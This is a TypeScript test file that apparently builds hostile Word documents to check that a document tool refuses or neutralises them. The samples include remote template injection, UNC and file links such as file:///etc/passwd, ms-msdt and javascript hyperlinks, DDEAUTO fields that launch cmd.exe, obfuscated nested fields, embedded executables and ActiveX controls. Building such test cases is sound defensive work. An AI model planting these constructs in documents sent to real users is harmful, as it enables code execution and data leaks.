import { ps, para, run, wordTemplate, type WordParts } from '../golden/templates/word-ways';
import { acts, read, type HostileInput } from './verdict';

/** 30–44: Word files that fetch, run or carry something. */

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const ns = 'http://schemas.openxmlformats.org/package/2006/relationships';
const body = ps('Served words');
const rel = (kind: string, target: string, external = true): string =>
  `<Relationship Id="rIdX" Type="${office}/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const linked = (kind: string, ...targets: string[]): WordParts[] =>
  targets.map((target) => ({ body, relationships: rel(kind, target) }));
const template = (target: string): WordParts => ({
  body,
  more: { settings: '<w:attachedTemplate r:id="rIdX"/>' },
  files: {
    'word/_rels/settings.xml.rels': `<Relationships xmlns="${ns}">${rel('attachedTemplate', target)}</Relationships>`,
  },
});

const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...codes: string[]): WordParts => ({
  body: body + para(mark('begin') + codes.map(code).join('') + mark('separate') + run('shown') + mark('end')),
});
const simple = (instruction: string): WordParts => ({
  body: body + para(`<w:fldSimple w:instr="${instruction}">${run('shown')}</w:fldSimple>`),
});

const harm = 'refused as a template; an error in a returned paper; of a served one only the words are read';
const input = (id: number, name: string, finding: string, files: () => readonly WordParts[]): HostileInput => ({
  id,
  name,
  verdict: harm,
  tries: () => files().flatMap((parts) => acts(wordTemplate(parts), finding)),
});

const exe = 'MZ\x90\x00 this program cannot be run';
const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;';

export const reachInputs: readonly HostileInput[] = [
  input(30, 'its template from the web', 'external-target', () => [template('http://host/t.dotm')]),
  input(31, 'its template from another machine', 'external-target', () => [
    template('\\\\host\\share\\t.dotm'),
    template('file://host/share/t.dotm'),
  ]),
  input(32, 'a picture from outside, to be seen reading', 'external-target', () => [
    ...linked('image', 'https://host/pixel.png', '\\\\host\\share\\p.png'),
    { body: `${body}<w:p><w:r><w:pict><v:shape><v:imagedata src="http://host/p.png"/></v:shape></w:pict></w:r></w:p>` },
  ]),
  input(33, 'an object from outside', 'embedded-object', () =>
    linked('oleObject', 'http://host/x.xls', 'file:///C:/x.xls'),
  ),
  input(34, 'a frame', 'frame', () => linked('frame', 'http://host/', 'file:///etc/passwd')),
  input(35, 'links that run something', 'unsafe-link', () =>
    linked(
      'hyperlink',
      'javascript:alert(1)',
      'file:///C:/x.exe',
      'ms-msdt:/id PCWDiagnostic',
      ' java&#115;cript:1',
      'search-ms:query=x',
    ),
  ),
  input(36, 'DDEAUTO', 'acting-field', () => [field(dde), simple(dde)]),
  input(37, 'DDE over nine runs', 'acting-field', () => [field(' ', 'D', 'D', 'E', ' c:', '\\\\x', ' ', 'a', 'b')]),
  input(38, 'a field in a field that makes the first word', 'hidden-field', () => [
    {
      body:
        body +
        para(
          mark('begin') +
            mark('begin') +
            code('QUOTE 68 68 69') +
            mark('separate') +
            run('DDE') +
            mark('end') +
            code(' c:\\\\x') +
            mark('end'),
        ),
    },
  ]),
  input(39, 'INCLUDETEXT and INCLUDEPICTURE from another machine', 'acting-field', () => [
    field('INCLUDETEXT &quot;\\\\\\\\host\\\\share\\\\x.docx&quot;'),
    field('INCLUDEPICTURE http://host/x.png'),
  ]),
  input(40, 'MACROBUTTON', 'acting-field', () => [field('MACROBUTTON AutoOpen click here')]),
  input(41, 'altChunk of HTML with a script', 'alt-chunk', () => [
    {
      body: `${body}<w:altChunk r:id="rIdX"/>`,
      relationships: rel('aFChunk', 'chunk.html', false),
      files: { 'word/chunk.html': '<script>alert(1)</script>' },
    },
  ]),
  input(42, 'a program as an embedded object', 'embedded-object', () => [
    { body, relationships: rel('package', 'embeddings/x.exe', false), files: { 'word/embeddings/x.exe': exe } },
    { body, files: { 'word/embeddings/oleObject1.bin': exe } },
  ]),
  input(43, 'an ActiveX control', 'active-control', () => [
    {
      body,
      relationships: rel('control', 'activeX/activeX1.xml', false),
      files: { 'word/activeX/activeX1.xml': '<x/>' },
    },
  ]),
  {
    id: 44,
    name: 'custom XML with a secret and a binding to it',
    verdict: 'harmless: neither is read as words, and both stay behind (the way out is 49)',
    tries: () => [
      read(
        wordTemplate({
          body: `${body}<w:sdt><w:sdtPr><w:dataBinding w:xpath="/s" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>${ps('bound')}</w:sdtContent></w:sdt>`,
          relationships: rel('customXml', '../customXml/item1.xml', false),
          files: { 'customXml/item1.xml': '<s>secret</s>' },
        }),
        ({ value }) => value.fields.length === 0,
      ),
    ],
  },
];
